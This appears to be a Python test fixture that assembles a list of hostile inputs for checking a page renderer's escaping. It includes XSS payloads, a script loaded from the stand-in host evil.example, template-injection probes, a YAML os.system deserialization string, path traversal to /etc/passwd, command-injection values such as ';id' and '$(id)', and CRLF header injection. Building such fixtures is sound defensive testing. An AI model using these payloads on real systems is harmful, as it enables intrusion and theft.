"""Hostile text: what somebody might put into a record, a head or a locator to become part of a page's markup."""

from itertools import product

_BREAKS = ["", '"', "'", '">', "'>", "`", "-->", "]]>", "</title>", "</style>", "</textarea>", "</script>", "</svg>", "--!>", "\n", "\\", "*/", "\u00a0"]
_ELEMENTS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    " onmouseover=alert(1) x=",
]
_ADDRESSES = [
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)"),
    *("&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4="),
    *("//evil.example/", "http:evil.example", "https:///evil.example", "https://evil.example@example.org/", "https://example.org\\@evil.example/", "file:///etc/passwd"),
    *("https://example.org/\" onclick=\"alert(1)", "https://example.org/' onclick='alert(1)", "https://example.org/><script>", "https://example.org/`x`", "https://example.org/ x", "https://example.org/\u202e"),
]
_ENTITIES = ["&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;", "&quot;", "&apos;", "&", "&&", "&;", "&#0;", "&#xD800;", "&nbsp", "\\u003cscript\\u003e", "%3Cscript%3E", "＜script＞", "<\u200bscript>"]
_BIDI = [f"a{sign}b" for sign in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u2060\ufeff\u00ad"]
_CONTROLS = [f"a{sign}b" for sign in "\x00\x01\x02\x03\x07\x08\x09\x0a\x0b\x0c\x0d\x1b\x1f\x7f\x80\x85\x9f\u2028\u2029\ufffe\uffff\ufffd\U000e0041"]
_TEMPLATES = ["{{ 7*7 }}", "{{ config }}", "{% include 'x' %}", "{# x #}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{'a'.__class__}}", "{{ c.ledger }}", "{% raw %}", "{{", "}}", "{:", "{: onclick=x }"]
_MARKDOWN = [
    *("[a](javascript:alert(1))", "![a](https://evil.example/x.png)", "[a][b]", "[b]: javascript:alert(1)", "<https://evil.example>", "<javascript:alert(1)>", "**a**", "__a__", "`a`", "```a", "# a", "> a", "- a", "| a | b |", "---", "==="),
    *("[@x]", "[@ours]", "[zh:a:x]", "/// claims", "///", "c:x", "\\<b\\>", "\x02klzzwxh:0001\x03", "wzxhzdk:0", "\x02amp\x03lt;script>", "&#42;", "*a*", "a  \nb", "    code"),
]
_YAML = ["!!python/object/apply:os.system ['true']", "*a", "&a b", "- a", "a: b", "'", '"', "|", ">", "%YAML", "---", "null", "true", "1e309", ".inf"]
_PATHS = ["../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "a\x00.md", "CON", "~root", "%2e%2e/", "....//", "a" * 3_000, "|id", ";id", "$(id)", "`id`", "\r\nSet-Cookie: a=b"]

HOSTILE: list[str] = list(
    dict.fromkeys(
        [f"{before}{element}" for before, element in product(_BREAKS, _ELEMENTS)]
        + [f"a {address} b" for address in _ADDRESSES]
        + [*_ADDRESSES, *_ENTITIES, *_BIDI, *_CONTROLS, *_TEMPLATES, *_MARKDOWN, *_YAML, *_PATHS]
    )
)
